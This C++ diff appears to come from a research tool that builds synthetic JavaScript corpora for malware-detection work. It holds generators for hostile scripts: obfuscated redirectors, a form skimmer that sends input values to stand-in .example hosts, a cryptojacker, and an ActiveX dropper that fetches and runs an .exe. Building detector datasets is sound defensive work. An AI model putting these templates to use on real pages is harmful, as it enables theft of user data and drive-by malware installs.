+    s += "  " + spray + ".push(" + sled + " + " + shell + ");\n";
+    s += "  i++;\n";
+    s += "}\n";
+  }
+  switch (g.rng.below(3)) {
+    case 0:
+      s += "var trigger = document.createElement(\"object\");\n";
+      s += "trigger.setAttribute(\"classid\", \"clsid:" + hex_blob(g, 8) +
+           "-" + hex_blob(g, 4) + "\");\n";
+      s += "document.body.appendChild(trigger);\n";
+      break;
+    case 1:
+      s += "var holder = document.createElement(\"embed\");\n";
+      s += "holder.src = \"" + hex_blob(g, 10) + ".swf\";\n";
+      s += "document.body.appendChild(holder);\n";
+      break;
+    default:
+      break;  // spray only; trigger delivered elsewhere
+  }
+  return s;
+}
+
+std::string gen_redirector(Gen& g) {
+  // Polymorphic: host encoding, UA gating, and redirect sink all vary.
+  const std::string host = g.fresh("h");
+  const std::string domain =
+      "evil" + std::to_string(g.num(10, 99)) + ".example";
+  std::string s;
+  switch (g.rng.below(3)) {
+    case 0: {
+      s += "var " + host + " = String.fromCharCode(";
+      for (std::size_t i = 0; i < domain.size(); ++i) {
+        if (i) s += ", ";
+        s += std::to_string(static_cast<int>(domain[i]));
+      }
+      s += ");\n";
+      break;
+    }
+    case 1: {
+      // Reversed-string reassembly.
+      std::string reversed(domain.rbegin(), domain.rend());
+      s += "var " + host + " = \"" + reversed +
+           "\".split(\"\").reverse().join(\"\");\n";
+      break;
+    }
+    default: {
+      // Concatenated fragments.
+      s += "var " + host + " = ";
+      for (std::size_t i = 0; i < domain.size(); i += 3) {
+        if (i) s += " + ";
+        s += "\"" + domain.substr(i, 3) + "\"";
+      }
+      s += ";\n";
+      break;
+    }
+  }
+  s += "var path = \"/" + hex_blob(g, g.num(6, 16)) + "\";\n";
+  if (g.rng.chance(0.6)) s += "var ref = document.referrer;\n";
+  s += "var target = \"http://\" + " + host + " + path" +
+       (g.rng.chance(0.6) ? " + \"?r=\" + encodeURIComponent(ref)" : "") +
+       ";\n";
+  switch (g.rng.below(4)) {
+    case 0:
+      s += "if (navigator.userAgent.indexOf(\"Windows\") !== -1) {\n";
+      s += "  window.location.href = target;\n";
+      s += "}\n";
+      break;
+    case 1:
+      s += "var ifr = document.createElement(\"iframe\");\n";
+      s += "ifr.width = 1;\n";
+      s += "ifr.height = 1;\n";
+      s += "ifr.src = target;\n";
+      s += "document.body.appendChild(ifr);\n";
+      break;
+    case 2:
+      s += "setTimeout(function() { top.location.replace(target); }, " +
+           std::to_string(g.num(10, 900)) + ");\n";
+      break;
+    default:
+      s += "document.write(\"<meta http-equiv='refresh' content='0;url=\" + "
+           "target + \"'>\");\n";
+      break;
+  }
+  return s;
+}
+
+std::string gen_web_skimmer(Gen& g) {
+  // Polymorphic: harvesting selector, encoding step, and exfil channel vary.
+  const std::string buf = g.fresh("grab");
+  const std::string harvest = g.fresh("collect");
+  const std::string exfil = g.fresh("ship");
+  std::string s;
+  s += "var " + buf + " = [];\n";
+  s += "function " + harvest + "() {\n";
+  if (g.rng.chance(0.5)) {
+    s += "  var inputs = document.getElementsByTagName(\"input\");\n";
+  } else {
+    s += "  var inputs = document.querySelectorAll(\"input, select\");\n";
+  }
+  s += "  for (var i = 0; i < inputs.length; i++) {\n";
+  s += "    var v = inputs[i].value;\n";
+  s += "    var n = inputs[i].name;\n";
+  s += "    if (v && v.length > " + std::to_string(g.num(2, 6)) + ") {\n";
+  s += "      " + buf + ".push(n + \"=\" + v);\n";
+  s += "    }\n";
+  s += "  }\n";
+  s += "}\n";
+  s += "function " + exfil + "() {\n";
+  s += "  if (" + buf + ".length === 0) { return; }\n";
+  s += "  var blob = " + buf + ".join(\"&\");\n";
+  const int key = g.num(1, 99);
+  switch (g.rng.below(3)) {
+    case 0:
+      s += "  var enc = \"\";\n";
+      s += "  for (var i = 0; i < blob.length; i++) {\n";
+      s += "    enc += String.fromCharCode(blob.charCodeAt(i) ^ " +
+           std::to_string(key) + ");\n";
+      s += "  }\n";
+      break;
+    case 1:
+      s += "  var enc = btoa(blob);\n";
+      break;
+    default:
+      s += "  var enc = \"\";\n";
+      s += "  var i = blob.length;\n";
+      s += "  while (i--) { enc += blob.charAt(i); }\n";
+      break;
+  }
+  switch (g.rng.below(3)) {
+    case 0:
+      s += "  var img = new Image();\n";
+      s += "  img.src = \"//" + hex_blob(g, 8) +
+           ".example/c.gif?d=\" + encodeURIComponent(enc);\n";
+      break;
+    case 1:
+      s += "  var xhr = new XMLHttpRequest();\n";
+      s += "  xhr.open(\"POST\", \"//" + hex_blob(g, 8) +
+           ".example/s\", true);\n";
+      s += "  xhr.send(enc);\n";
+      break;
+    default:
+      s += "  var tag = document.createElement(\"script\");\n";
+      s += "  tag.src = \"//" + hex_blob(g, 8) + ".example/j?d=\" + enc;\n";
+      s += "  document.head.appendChild(tag);\n";
+      break;
+  }
+  s += "  " + buf + " = [];\n";
+  s += "}\n";
+  if (g.rng.chance(0.5)) {
+    s += "document.addEventListener(\"change\", " + harvest + ");\n";
+  } else {
+    s += "document.addEventListener(\"blur\", " + harvest + ", true);\n";
+  }
+  if (g.rng.chance(0.5)) {
+    s += "setInterval(" + exfil + ", " + std::to_string(g.num(2000, 10000)) +
+         ");\n";
+  } else {
+    s += "window.addEventListener(\"beforeunload\", " + exfil + ");\n";
+  }
+  return s;
+}
+
+std::string gen_cryptojacker(Gen& g) {
+  const std::string worker = g.fresh("mine");
+  std::string s;
+  s += "var nonce = 0;\n";
+  s += "var targetBits = " + std::to_string(g.num(8, 20)) + ";\n";
+  s += "function hashStep(seed) {\n";
+  s += "  var h = seed | 0;\n";
+  s += "  for (var i = 0; i < 64; i++) {\n";
+  s += "    h = (h << 5) - h + i;\n";
+  s += "    h = h & h;\n";
+  s += "    h = h ^ (h >>> 7);\n";
+  s += "  }\n";
+  s += "  return h >>> 0;\n";
+  s += "}\n";
+  s += "function " + worker + "() {\n";
+  s += "  var found = 0;\n";
+  const std::string budget = std::to_string(g.num(5000, 50000));
+  if (g.rng.chance(0.5)) {
+    s += "  for (var j = 0; j < " + budget + "; j++) {\n";
+    s += "    nonce = nonce + 1;\n";
+    s += "    var digest = hashStep(nonce);\n";
+    s += "    if ((digest >>> (32 - targetBits)) === 0) {\n";
+    s += "      found = nonce;\n";
+    s += "      break;\n";
+    s += "    }\n";
+    s += "  }\n";
+  } else {
+    s += "  var j = 0;\n";
+    s += "  while (j < " + budget + " && !found) {\n";
+    s += "    nonce++;\n";
+    s += "    j++;\n";
+    s += "    if ((hashStep(nonce) >>> (32 - targetBits)) === 0) {\n";
+    s += "      found = nonce;\n";
+    s += "    }\n";
+    s += "  }\n";
+  }
+  s += "  if (found) {\n";
+  switch (g.rng.below(3)) {
+    case 0:
+      s += "    var ws = new WebSocket(\"wss://" + hex_blob(g, 6) +
+           ".example/pool\");\n";
+      s += "    ws.onopen = function() { ws.send(\"share:\" + found); };\n";
+      break;
+    case 1:
+      s += "    var xhr = new XMLHttpRequest();\n";
+      s += "    xhr.open(\"POST\", \"//" + hex_blob(g, 6) +
+           ".example/share\", true);\n";
+      s += "    xhr.send(String(found));\n";
+      break;
+    default:
+      s += "    var beacon = new Image();\n";
+      s += "    beacon.src = \"//" + hex_blob(g, 6) +
+           ".example/b.gif?n=\" + found;\n";
+      break;
+  }
+  s += "  }\n";
+  if (g.rng.chance(0.5)) {
+    s += "  setTimeout(" + worker + ", " + std::to_string(g.num(10, 200)) +
+         ");\n";
+  } else {
+    s += "  window.requestAnimationFrame ? requestAnimationFrame(" + worker +
+         ") : setTimeout(" + worker + ", 16);\n";
+  }
+  s += "}\n";
+  s += worker + "();\n";
+  return s;
+}
+
+std::string gen_activex_dropper(Gen& g) {
+  // Polymorphic: probing style (loop vs unrolled try chains), download and
+  // execution variants.
+  const std::string sh = g.fresh("sh");
+  std::string s;
+  if (g.rng.chance(0.5)) {
+    s += "var names = [\"WScript.Shell\", \"Scripting.FileSystemObject\", "
+         "\"MSXML2.XMLHTTP\", \"ADODB.Stream\"];\n";
+    s += "var " + sh + " = [];\n";
+    s += "for (var i = 0; i < names.length; i++) {\n";
+    s += "  try {\n";
+    s += "    " + sh + "[i] = new ActiveXObject(names[i]);\n";
+    s += "  } catch (e) {\n";
+    s += "    " + sh + "[i] = null;\n";
+    s += "  }\n";
+    s += "}\n";
+  } else {
+    s += "var " + sh + " = [null, null, null, null];\n";
+    s += "try { " + sh + "[0] = new ActiveXObject(\"WScript.Shell\"); } "
+         "catch (e0) { }\n";
+    s += "try { " + sh + "[2] = new ActiveXObject(\"MSXML2.XMLHTTP\"); } "
+         "catch (e2) { }\n";
+    s += "try { " + sh + "[3] = new ActiveXObject(\"ADODB.Stream\"); } "
+         "catch (e3) { }\n";
+  }
+  const std::string url = "http://" + hex_blob(g, 8) + ".example/" +
+                          hex_blob(g, 6) + ".bin";
+  s += "if (" + sh + "[2]) {\n";
+  s += "  var req = " + sh + "[2];\n";
+  s += "  req.open(\"" + std::string(g.rng.chance(0.5) ? "GET" : "POST") +
+       "\", \"" + url + "\", false);\n";
+  s += "  req.send();\n";
+  s += "  var body = req.responseBody;\n";
+  s += "  var stream = " + sh + "[3];\n";
+  s += "  stream.Type = 1;\n";
+  s += "  stream.Open();\n";
+  s += "  stream.Write(body);\n";
+  s += "  var temp = \"%TEMP%\\\\" + hex_blob(g, 6) + ".exe\";\n";
+  s += "  stream.SaveToFile(temp, 2);\n";
+  if (g.rng.chance(0.5)) {
+    s += "  if (" + sh + "[0]) { " + sh + "[0].Run(temp, 0, false); }\n";
+  } else {
+    s += "  if (" + sh + "[0]) {\n";
+    s += "    var cmd = \"cmd.exe /c \" + temp;\n";
+    s += "    " + sh + "[0].Exec(cmd);\n";
+    s += "  }\n";
+  }
+  s += "}\n";
+  return s;
+}
+
+// ---------------------------------------------------------------------------
+
+using GenFn = std::string (*)(Gen&);
+
+struct Genre {
+  const char* name;
+  GenFn fn;
+};
+
+constexpr std::array<Genre, 17> kBenignGenres = {{
+    {"vector-math", gen_vector_math},
+    {"checksum", gen_checksum},
+    {"codec", gen_codec},
+    {"prng", gen_prng},
+    {"widget-config", gen_widget_config},
+    {"dom-ui", gen_dom_ui},
+    {"utility-module", gen_utility_module},
+    {"ajax-wrapper", gen_ajax_wrapper},
+    {"form-validation", gen_form_validation},
+    {"animation", gen_animation},
+    {"date-format", gen_date_format},
+    {"prototype-class", gen_prototype_class},
+    {"hex-parser", gen_hex_parser},
+    {"text-fill", gen_text_fill},
+    {"xhr-shim", gen_xhr_shim},
+    {"form-autosave", gen_form_autosave},
+    {"login-redirect", gen_login_redirect},
+}};
+static_assert(kBenignGenres.size() == 17);
+
+constexpr std::array<Genre, 6> kMaliciousFamilies = {{
+    {"dropper", gen_dropper},
+    {"heap-spray", gen_heap_spray},
+    {"redirector", gen_redirector},
+    {"web-skimmer", gen_web_skimmer},
+    {"cryptojacker", gen_cryptojacker},
+    {"activex-dropper", gen_activex_dropper},
+}};
+
+}  // namespace
+
+std::string generate_benign(Rng& rng, std::string* genre_out) {
+  Gen g{rng, static_cast<int>(rng.below(100)) * 10};
+  // Real benign files mix several concerns; compose 1-4 genre blocks
+  // (overlapping the block-count range of carrier-infected malicious files
+  // so file size does not leak the label).
+  const int parts = 1 + static_cast<int>(rng.below(4));
+  std::string src;
+  std::string tag;
+  for (int i = 0; i < parts; ++i) {
+    const Genre& genre = kBenignGenres[rng.below(kBenignGenres.size())];
+    if (i == 0) tag = genre.name;
+    src += genre.fn(g);
+    src += "\n";
+  }
+  // Legacy overlap patterns (document.write loaders, cookie escape/unescape,
+  // charCode hashing) keep the benign class realistically ambiguous.
+  if (rng.chance(0.15)) {
+    src += gen_benign_edgecase(g);
+  }
+  if (genre_out != nullptr) *genre_out = tag;
+  return src;
+}
+
+std::string generate_malicious(Rng& rng, std::string* family_out) {
+  Gen g{rng, static_cast<int>(rng.below(100)) * 10};
+  const Genre& fam = kMaliciousFamilies[rng.below(kMaliciousFamilies.size())];
+  std::string payload = fam.fn(g);
+  if (family_out != nullptr) *family_out = fam.name;
+
+  // Malware is overwhelmingly injected INTO legitimate scripts (infected
+  // libraries, compromised pages): the payload is a small part of a larger
+  // benign carrier, at a random position. This is what makes real-world
+  // detection hard — aggregate statistics are dominated by the carrier, so
+  // detectors must key on payload-local features.
+  if (rng.chance(0.5)) {
+    const int blocks = 1 + static_cast<int>(rng.below(3));
+    const int payload_at = static_cast<int>(rng.below(
+        static_cast<std::uint64_t>(blocks) + 1));
+    std::string out;
+    for (int b = 0; b <= blocks; ++b) {
+      if (b == payload_at) {
+        out += payload + "\n";
+      }
+      if (b < blocks) {
+        out += kBenignGenres[rng.below(kBenignGenres.size())].fn(g) + "\n";
+      }
+    }
+    return out;
+  }
+  return payload;
+}
+
+std::string wild_obfuscate(const std::string& source, Rng& rng,
+                           bool heavy) {
+  // The wild samples in the paper's corpora were obfuscated by unknown
+  // tools, NOT the four tools used for the test-time re-obfuscation. This
+  // model uses deliberately different machinery: short-name renaming and
+  // classic unescape("%xx") string hiding.
+  js::Ast ast = js::parse(source);
+  obf::rename_variables(ast, obf::NameStyle::kShort, rng);
+  if (heavy) {
+    obf::escape_encode_strings(ast, rng, /*min_len=*/4, /*p=*/0.8);
+  }
+  return js::print(ast.root, js::PrintStyle::kMinified);
+}
+
+Corpus generate_corpus(const GeneratorConfig& cfg) {
+  Rng rng(cfg.seed);
+  Corpus corpus;
+  corpus.samples.reserve(cfg.benign_count + cfg.malicious_count);
+
+  for (std::size_t i = 0; i < cfg.benign_count; ++i) {
+    Sample s;
+    s.label = 0;
+    s.source = generate_benign(rng, &s.family);
+    s.origin = rng.chance(0.7) ? "150k-js-dataset" : "alexa-top10k";
+    if (cfg.apply_wild_obfuscation) {
+      // Moog et al. rates: most benign scripts are minified; ~6% use
+      // variable obfuscation; ~3% string obfuscation.
+      const double roll = rng.uniform();
+      if (roll < 0.03) {
+        s.source = wild_obfuscate(s.source, rng, /*heavy=*/true);
+      } else if (roll < 0.03 + cfg.benign_renamed_rate) {
+        s.source = wild_obfuscate(s.source, rng, /*heavy=*/false);
+      } else if (roll <
+                 0.03 + cfg.benign_renamed_rate + cfg.benign_minified_rate) {
+        s.source = obf::minify(s.source);
+      }
+    }
+    corpus.samples.push_back(std::move(s));
+  }
+
+  for (std::size_t i = 0; i < cfg.malicious_count; ++i) {
+    Sample s;
+    s.label = 1;
+    s.source = generate_malicious(rng, &s.family);
+    const double origin_roll = rng.uniform();
+    s.origin = origin_roll < 0.92 ? "hynek-petrak"
+               : origin_roll < 0.96 ? "geeks-on-security" : "virustotal";
+    if (cfg.apply_wild_obfuscation && rng.chance(cfg.malicious_preobf_rate)) {
+      // Malicious wild samples combine renaming and string hiding more
+      // aggressively (25-27% variable, 17-21% string per Moog et al.,
+      // conditioned on being obfuscated at all).
+      s.source = wild_obfuscate(s.source, rng, /*heavy=*/rng.chance(0.5));
+    }
+    corpus.samples.push_back(std::move(s));
+  }
+  return corpus;
+}
+
+}  // namespace jsrev::dataset
